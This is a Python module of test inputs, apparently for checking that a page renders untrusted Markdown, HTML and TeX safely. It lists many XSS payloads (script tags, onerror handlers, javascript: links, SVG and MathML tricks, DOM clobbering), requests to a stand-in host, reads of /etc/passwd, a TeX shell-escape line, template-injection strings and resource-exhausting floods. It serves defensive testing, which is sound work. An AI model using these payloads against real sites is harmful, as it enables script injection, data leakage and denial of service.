r"""Texts that try to be more than texts once a page shows them: scripts, styles, links, formulas, floods.

`HIT` is the canary: a script that runs sets `window.__hit`. No request may go to `deed.example`.
"""

from __future__ import annotations

from itertools import product

HIT = "window.__hit=1"
AWAY = "https://deed.example/x"

TAGS = (
    f"<script>{HIT}</script>",
    f"<ScRiPt>{HIT}</sCrIpT>",
    f'<script src="{AWAY}.js"></script>',
    f"</script><script>{HIT}</script>",
    f"<!--<script>{HIT}//--></script>",
    f"<scr<script>ipt>{HIT}</scr</script>ipt>",
    f"<script type=module>{HIT}</script>",
    f'<script>mathbatch.add("report","{{}}");{HIT}</script>',
    f"<img src=x onerror={HIT}>",
    f"<img src=x onerror={HIT}//",
    f"<img/src=`x`onerror={HIT}>",
    f'<img srcset="{AWAY}.png 1x">',
    f'<img src="{AWAY}.png" referrerpolicy=unsafe-url>',
    '<img src="file:///etc/passwd">',
    f'<picture><source srcset="{AWAY}"><img></picture>',
    f'<svg onload={HIT}><path d="M0 0"/></svg>',
    f"<svg><script>{HIT}</script></svg>",
    f"<svg><script href='data:text/javascript,{HIT}'/></svg>",
    f"<svg><animate onbegin={HIT} attributeName=x dur=1s>",
    f"<svg><foreignObject><iframe srcdoc='<script>top.{HIT}</script>'></foreignObject></svg>",
    f'<svg><image href="{AWAY}.png" width=9 height=9 /></svg>',
    f'<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload={HIT}/>#x"/></svg>',
    f'<svg><a xlink:href="javascript:{HIT}"><text y=20>press</text></a></svg>',
    "<svg><style>*{display:none!important}</style></svg>",
    f'<svg><feImage href="{AWAY}"/></svg>',
    f'<svg><set attributeName=onmouseover to={HIT} /><rect width="9999" height="9999"/></svg>',
    f'<svg></p><style><a id="</style><img src=1 onerror={HIT}>">',
    f'<math href="javascript:{HIT}">press</math>',
    f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={HIT}&gt;">',
    f'<math><maction actiontype="statusline#{AWAY}" xlink:href="javascript:{HIT}">press</maction></math>',
    f'<math><annotation-xml encoding="text/html"><script>{HIT}</script></annotation-xml></math>',
    f'<math><mi//xlink:href="data:x,<script>{HIT}</script>">',
    f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={HIT}>",
    f"<iframe srcdoc='<script>top.{HIT}</script>'></iframe>",
    f'<iframe src="javascript:top.{HIT}"></iframe>',
    f'<iframe src="{AWAY}"></iframe>',
    f'<object data="javascript:{HIT}"></object>',
    f'<object data="{AWAY}.swf"></object>',
    f'<embed src="javascript:{HIT}">',
    f'<frameset onload={HIT}><frame src="{AWAY}"></frameset>',
    f'<form action="{AWAY}"><button>send</button></form>',
    f'<form><button formaction="javascript:{HIT}">press</button></form>',
    f"<input autofocus onfocus={HIT}>",
    f'<input type=image src="{AWAY}" alt=press>',
    f"<select autofocus onfocus={HIT}><option>x</select>",
    f"<textarea autofocus onfocus={HIT}>",
    f"<details open ontoggle={HIT}><summary>x</summary></details>",
    f"<video><source onerror={HIT}></video>",
    f'<video poster="{AWAY}.png" src="{AWAY}.mp4" autoplay></video>',
    f"<audio src=x onerror={HIT}>",
    f'<audio autoplay><track src="{AWAY}" default></audio>',
    f"<body onload={HIT} onpageshow={HIT}>",
    f'<body background="{AWAY}.png">',
    f'<table background="{AWAY}.png"><tr><td>x</table>',
    f"<marquee onstart={HIT}>x</marquee>",
    f'<a href="javascript:{HIT}">press</a>',
    f'<a href=" &#106;ava&Tab;script&colon;{HIT}">press</a>',
    f'<a href="{AWAY}" target=_blank ping="{AWAY}">press</a>',
    f'<a href="data:text/html,<script>{HIT}</script>">press</a>',
    '<a href="file:///etc/passwd" download>press</a>',
    '<a href="#/overview">press</a>',
    '<a href="vbscript:msgbox(1)">press</a>',
    f'<area href="javascript:{HIT}"><map name=x></map>',
    f'<base href="{AWAY}/">',
    f'<meta http-equiv=refresh content="0;url={AWAY}">',
    "<meta http-equiv=Content-Security-Policy content=\"script-src 'none'\">",
    f'<link rel=stylesheet href="{AWAY}.css">',
    '<link rel=dns-prefetch href="//deed.example"><link rel=preconnect href="//deed.example">',
    f'<link rel=prefetch href="{AWAY}"><link rel=preload as=image href="{AWAY}">',
    f"<style>@import '{AWAY}.css';</style>",
    "<style>*{display:none!important}</style>",
    "<style>body{font-size:99px;direction:rtl}</style>",
    f"<style>#app{{background:url({AWAY})}}</style>",
    f'<div style="position:fixed;inset:0;z-index:9999;background:red url({AWAY})">over all</div>',
    "<div style='width:99999px;margin-left:-9999px;transform:scale(99)'>wide</div>",
    "<div class='shell fixed problem katex-display' id=main>looks like ours</div>",
    f"<template><script>{HIT}</script></template>",
    f"<div><template shadowrootmode=open><style>:host{{all:initial}}</style><img src=x onerror={HIT}></template></div>",
    f'<noscript><p title="</noscript><img src=x onerror={HIT}>">',
    f'<xmp><p title="</xmp><img src=x onerror={HIT}>">',
    f"<plaintext><img src=x onerror={HIT}>",
    f"</textarea><img src=x onerror={HIT}>",
    f"</title></style></main></body></html><img src=x onerror={HIT}>",
    f"<![CDATA[><img src=x onerror={HIT}>]]>",
    f"<?xml-stylesheet href=\"{AWAY}\"?><!DOCTYPE x [<!ENTITY y SYSTEM '{AWAY}'>]>&y;",
    f"<!--><img src=x onerror={HIT}>-->",
    f"<x-y onclick={HIT} contenteditable autofocus onfocus={HIT} tabindex=1 accesskey=j>x</x-y>",
    f"<dialog open onclose={HIT}><button autofocus>close</button></dialog>",
    f"<button popovertarget=p>x</button><div popover id=p onbeforetoggle={HIT}>x</div>",
    f"<div onpointerrawupdate={HIT} onmouseover={HIT} onanimationstart={HIT} style='animation:x 1s'>x</div>",
    f"<portal src='{AWAY}'></portal><fencedframe></fencedframe><applet code=x></applet><bgsound src='{AWAY}'>",
    "<a id=mathbatch></a><a id=mathbatch name=store href=x></a>",
    "<form id=app><input name=replaceChildren><input name=append></form>",
    "<form name=location><input name=hash><input name=href></form>",
    "<img name=getElementById><img name=createElement><img name=currentScript><img name=cookie>",
    "<form><input name=attributes><input name=parentNode><input name=nodeName></form>",
    "<iframe name=top></iframe><iframe name=history></iframe><a id=self></a>",
    "<p id=main></p><p id=app></p><p id=__proto__></p><p id=constructor></p>",
)

# How a text stands in Markdown, in place of §.
WRAPPINGS = {
    "code": "```html\n§\n```",
    "open code": "```§\n",
    "quote": "> 1. §\n>    - §",
    "cell": "| a | b |\n|---|---|\n| § | § |",
    "formula": "$§$ and $$\\text{§}$$ and \\boxed{§}",
    "heading": "# §\n\n§\n===",
}

MARKDOWN = (
    f"[press](javascript:{HIT})",
    f"[press](JaVaScRiPt:{HIT} 'a title')",
    f"[press]({AWAY})",
    f"[press](//deed.example 'title\" onclick={HIT} x=\"')",
    f'[press](https://deed.example/"onmouseover="{HIT})',
    f"[press][1]\n\n[1]: javascript:{HIT}",
    f"<javascript:{HIT}> <{AWAY}> www.deed.example mailto:a@deed.example",
    f"![picture]({AWAY}.png)",
    f'![" onerror="{HIT}](x)',
    f'![picture](x"onerror="{HIT})',
    f"![picture](data:image/svg+xml,%3Csvg%20onload={HIT}%3E)",
    "![picture](file:///etc/passwd) ![picture](../../../secret.png)",
    f"[![picture]({AWAY}.png)]({AWAY})",
    "[same page](#/samples?id=other)",
    "[data](data:text/html;base64,PHNjcmlwdD4xPC9zY3JpcHQ+)",
    f'```" onclick="{HIT}\ncode\n```',
    f"```js {{onload={HIT}}}\n{HIT}\n```",
    f"[^1]\n\n[^1]: <script>{HIT}</script>",
    "- [x] done\n- [ ] open\n  - <!-- not closed",
    f"*a<b* **{HIT}** ~~<s>~~ `<b>` &lt;script&gt; &#60;script&#62; &amp;lt;",
    "a | b\n--|--\n" + "x | y\n" * 3000,
    "|" + " a |" * 1000 + "\n|" + "---|" * 1000 + "\n|" + " b |" * 1000,
    ">" * 5000 + " deep",
    "".join("  " * depth + "- item\n" for depth in range(400)),
    "*" * 10_000,
    "[" * 10_000,
    "![" * 5_000 + "](" * 5_000,
    "`" * 10_001 + "x",
    "<" * 10_000,
    "&" * 10_000 + ";",
    "_a_" * 5_000,
    "# " * 2_000 + "heading",
    "***\n" * 2_000,
    "1" * 300 + ". list with a large number",
)

TEX = (
    rf"\href{{javascript:{HIT}}}{{x}}",
    rf"\href{{{AWAY}}}{{x}}",
    rf"\url{{javascript:{HIT}}}",
    rf"\includegraphics[height=99em]{{{AWAY}.png}}",
    r"\htmlClass{shell}{x}\htmlId{app}{x}",
    r"\htmlStyle{position:fixed;inset:0;z-index:9999;background:red}{x}",
    rf"\htmlData{{onclick={HIT}, style=position:fixed}}{{x}}",
    rf"\text{{<img src=x onerror={HIT}>}}",
    rf"\verb|<script>{HIT}</script>|",
    rf"\operatorname{{<svg onload={HIT}>}}",
    rf"\tag{{<img src=x onerror={HIT}>}} x",
    r"\def\x{\x\x}\x",
    r"\def\a{\b\b}\def\b{\c\c}\def\c{\d\d}\def\d{\e\e}\def\e{\f\f}\def\f{\g\g}\def\g{xxxxxxxx}\a\a\a\a\a\a",
    r"\def\a#1{#1#1#1#1#1#1#1#1}\a{\a{\a{\a{\a{\a{\a{\a{x}}}}}}}}",
    r"\gdef\frac#1#2{\text{stolen}}\global\def\sqrt{\text{stolen}} \frac{1}{2}",
    r"\newcommand{\boxed}[1]{\text{stolen}}\renewcommand{\pi}{\text{stolen}} \boxed{1}",
    r"\let\frac\sqrt \global\let\times\div \frac{1}{2}",
    r"\edef\a{\a}\a \futurelet\x\y \expandafter\x\csname y\endcsname",
    r"\rule{100000em}{100000em}",
    r"\rule[-9999em]{1em}{20000em}",
    r"\kern-100000em x \kern{99999em}",
    r"\hspace{-9999em} over the list \hskip 99999em",
    r"\raisebox{1000em}{over the header}\raisebox{-1000em}{under all}",
    r"\llap{over the list and the header and all that there is} \rlap{far away}\smash{x}\mathllap{y}",
    r"\\[99999em] x \\[-99999em] over the header",
    r"\color{url(https://deed.example)} x \textcolor{red;position:fixed}{x}",
    r"\colorbox{red;background:url(//deed.example)}{x} \fcolorbox{red}{blue}{x}",
    r"\Huge\Huge{\Huge x^{\Huge y}}",
    r'\unicode{x202e} \char`\< \char"202E \symbol{60}',
    r"\begin{matrix} 1 & 2 \\ ",
    r"\begin{array}{" + "c" * 1000 + "}" + "1 & " * 999 + r"1\end{array}",
    r"\begin{align*}" + r"x &= 1 \\" * 2000 + r"\end{align*}",
    r"\begin{CD} A @>>> B @V\href{javascript:x}{y}VV \end{CD}",
    r"\left(" * 300 + "x" + r"\right)" * 300,
    "{" * 10_000 + "x" + "}" * 10_000,
    "x^{" * 2_000 + "2" + "}" * 2_000,
    r"\frac{1}{" * 1_000 + "2" + "}" * 1_000,
    r"\sqrt{" * 1_000 + "2" + "}" * 1_000,
    r"\overbrace{" * 200 + "2" + "}" * 200,
    r"\boxed{" * 500 + "2" + "}" * 500,
    "}" * 1000,
    "x_" * 3000,
    "'" * 3000,
    r"\phantom{" + "x" * 20_000 + "}",
    r"\input{/etc/passwd} \write18{id} \openin5=/etc/passwd \usepackage{x} \catcode`\$=12",
    r"\errmessage{x} \message{y} \show\x \@ifstar \csname end\endcsname",
    r"\cancel{\underset{x}{\overset{y}{\xrightarrow[\text{<b>}]{<i>}}}}",
    r"\ce{H2O} \pu{1 kg} \bra{x} \label{app} \ref{app} \eqref{app}",
    "% a comment that swallows the rest",
    r"\mathchoice{a}{b}{c}{d} \relax \noexpand \uppercase{<script>}",
)  # fmt: skip

# How a formula stands in a text, in place of §.
DELIMITERS = {
    "inline": "so $§$.",
    "display": "$$\n§\n$$",
    "brackets": r"\[ § \] and \( § \)",
    "boxed": r"\boxed{§}",
}

WORDS = (
    "__proto__", "constructor", "prototype", "toString", "hasOwnProperty", "valueOf", "length", "then", "watch",
    "undefined", "null", "NaN", "-0", "true", "[object Object]", "0", " ", "\t", "a\nb", "a\r\nb",
    "../../etc/passwd", "..\\..\\x", "/etc/passwd", "C:\\CON", "file:///etc/passwd", "%2e%2e%2f", "%", "100%", "%zz",
    "%00", "?x=1#y&z=2", "a b+c", "#/samples?id=1", "&verdict=wrong", "a;b,c", "'\"`", "\\", "\\u0000", "${7*7}",
    "{{7*7}}", "{% raw %}", "<%= 1 %>", "#{1}", "\");alert(1);//", "'];alert(1)//", "]]>", "-->", "*/alert(1)/*",
    "=1+1", "@SUM(1)", "😀👩‍👩‍👧‍👦🏴󠁧󠁢󠁥󠁮󠁧󠁿", "ﷺ", "İıſK", "ㅤ", "⁠", "é vs é",
)  # fmt: skip

CHARACTERS = (
    "\u202ereversed\u202c and \u202dforced",
    "\u2066\u2067\u2068 isolates that are never closed",
    "\u2069\u2069\u202c\u202c closed but never opened",
    "\u061c\u200e\u200f marks",
    "שלום (abc) עולם 123 <b>",
    "\u202e" * 5_000 + "x",
    "Z" + "\u0300\u0489\u036f" * 3_000,
    "a\u0000b\u0001c\u0008d\u007fe\u0085f\u009fg",
    "\u001b[31mred\u001b[0m\u001b]0;title\u0007\u001b[2J",
    "line\u2028separator\u2029paragraph\u000bvertical\u000cfeed",
    "\ufeffmark\ufffe\uffff\ufff9\ufffa\ufffb",
    "\U000e0001\U000e0041\U000e007f tags",
    "\u200b\u200c\u200d\u2060\u00ad" * 1_000,
    "\ue000\ue001\uf8ff\U0010fffd private",
    "\ue0000\ue001 \ue000s\ue001 \ue000e\ue001",
    "〇" * 20_000,
    "W" * 100_000,
    "W" * 50 + "\u00a0" * 10_000 + "W",
    "\n" * 50_000 + "end",
    "\r" * 5_000 + "end",
    "\t" * 10_000 + "end",
    " " * 50_000 + "end",
    "a " * 100_000,
    "🏳️‍🌈" * 5_000,
    "﷽" * 5_000,
)

# Characters of a text that fills the memory of a browser if it is drawn whole.
MUCH = 5_000_000
FLOODS = ("word ", "<b>x", "$x$ ", "{", "*a* ", "\\boxed{", "| a |\n", "\u202e")


def names_and_texts() -> list[tuple[str, str]]:
    """Return all texts with names that say what they are; none longer than 200,000 characters."""
    wrappings = list(WRAPPINGS.items())
    delimiters = list(DELIMITERS.items())
    found = [(f"tag {at}", text) for at, text in enumerate(TAGS)]
    found += [
        (f"tag {at} in {name}", wrapping.replace("§", text))
        for at, text in enumerate(TAGS)
        for name, wrapping in (wrappings[at % len(wrappings)],)
    ]
    found += [(f"markdown {at}", text) for at, text in enumerate(MARKDOWN)]
    found += [
        (f"formula {at} {name}", form.replace("§", text))
        for (at, text), (name, form) in product(enumerate(TEX), delimiters)
        if len(text) < 5_000 or name == "inline"
    ]
    found += [(f"word {at}", text) for at, text in enumerate(WORDS)]
    return found + [(f"characters {at}", text) for at, text in enumerate(CHARACTERS)]


def floods() -> list[tuple[str, str]]:
    """Return texts of five million characters with their names."""
    return [(f"flood of {one!r}", (one * (MUCH // len(one) + 1))[:MUCH]) for one in FLOODS]
